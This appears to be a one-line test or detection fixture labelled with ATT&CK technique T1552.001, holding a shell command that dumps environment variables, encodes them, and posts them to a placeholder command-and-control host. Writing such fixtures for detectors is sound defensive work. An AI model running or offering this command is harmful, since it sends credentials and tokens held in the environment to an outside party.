# expect: environment-sent-away | source: T1552.001
env | gzip | base64 | curl -s -X POST --data-binary @- https://c2.example.invalid/
